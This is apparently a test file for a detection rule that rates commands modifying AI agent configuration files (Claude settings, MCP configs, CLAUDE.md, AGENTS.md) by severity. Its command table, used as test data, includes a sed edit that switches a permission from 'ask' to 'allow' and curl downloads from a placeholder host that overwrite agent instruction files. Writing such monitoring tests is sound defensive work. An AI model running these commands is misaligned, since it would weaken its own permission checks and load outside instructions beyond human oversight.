import { expect, test } from "vitest";
import { aFileWrite } from "../../../testing/commands.ts";
import { policyFor } from "../../../testing/engine.ts";
import { answerOf, ruleTable } from "../../../testing/rule-table.ts";

ruleTable("agent-config", {
  passes: [
    ["bash", "-lc"],
    ["sed", "-i"],
    ["git", "checkout"],
    ["python", "-"],
  ],
  commands: [
    ["/usr/bin/bash", '-c "echo {} > .claude/settings.local.json"', "Medium"],
    ["/usr/bin/tee", "/workspace/repo/.mcp.json", "Medium"],
    ["/usr/bin/sed", "-i s/ask/allow/ /root/.claude/settings.json", "Medium"],
    ["/usr/bin/curl", "-fsSL https://x.example/m.json -o .mcp.json", "High"],
    ["/usr/bin/curl", "-s https://x.example/a.md -o /workspace/repo/CLAUDE.md", "High"],
    ["/usr/bin/cp", "/tmp/x.toml /home/coder/.codex/config.toml", "Medium"],
    ["/usr/bin/bash", '-c "cat notes >> ~/.claude/CLAUDE.md"', "Medium"],
    ["/usr/bin/python3", "-c \"open('.cursor/mcp.json','w').write(x)\"", "Medium"],
    ["/usr/bin/bash", '-lc "echo - run tests >> AGENTS.md"', "Low"],
    ["/usr/bin/sed", "-i s/a/b/ AGENTS.md", "Low"],
    ["/usr/bin/bash", '-lc "cat AGENTS.md > /tmp/x"', "none"],
    ["/usr/bin/cat", "/workspace/repo/.mcp.json", "none"],
    ["/usr/bin/cp", ".mcp.json /tmp/backup.json", "none"],
    ["/usr/bin/bash", '-lc "echo x >> README.md"', "none"],
    ["/usr/bin/git", "add AGENTS.md CLAUDE.md", "none"],
    ["/usr/bin/bash", '-lc "ls .claude/commands"', "none"],
  ],
});

test.each([
  ["/workspace/repo/.mcp.json", "/usr/bin/python3", "Medium"],
  ["/workspace/repo/AGENTS.md", "/usr/bin/vim", "Low"],
  ["/workspace/repo/AGENTS.md", "/usr/bin/git", "none"],
  ["/workspace/repo/.env", "/usr/bin/vim", "none"],
] as const)("a write of %s by %s: %s", (path, binary, answer) => {
  expect(answerOf("agent-config", [aFileWrite("coding-agent", path, binary)], { isTrained: false })).toBe(answer);
});

test("a read of what steers an agent changes nothing", () => {
  expect(answerOf("agent-config", [aFileWrite("coding-agent", "/workspace/repo/.mcp.json", "/usr/bin/cat", 4)])).toBe(
    "none",
  );
});

test("an exception until a date lets a set-up step through", () => {
  const policies = [
    policyFor("dev-agents", {
      exceptions: [
        { rule: "agent-config", match: { binary: "/usr/bin/setup" }, reason: "t", expires: "2099-01-01T00:00:00Z" },
      ],
    }),
  ];
  const event = aFileWrite("coding-agent", "/workspace/repo/.mcp.json", "/usr/bin/setup");
  expect(answerOf("agent-config", [event], { policies })).toBe("none");
});
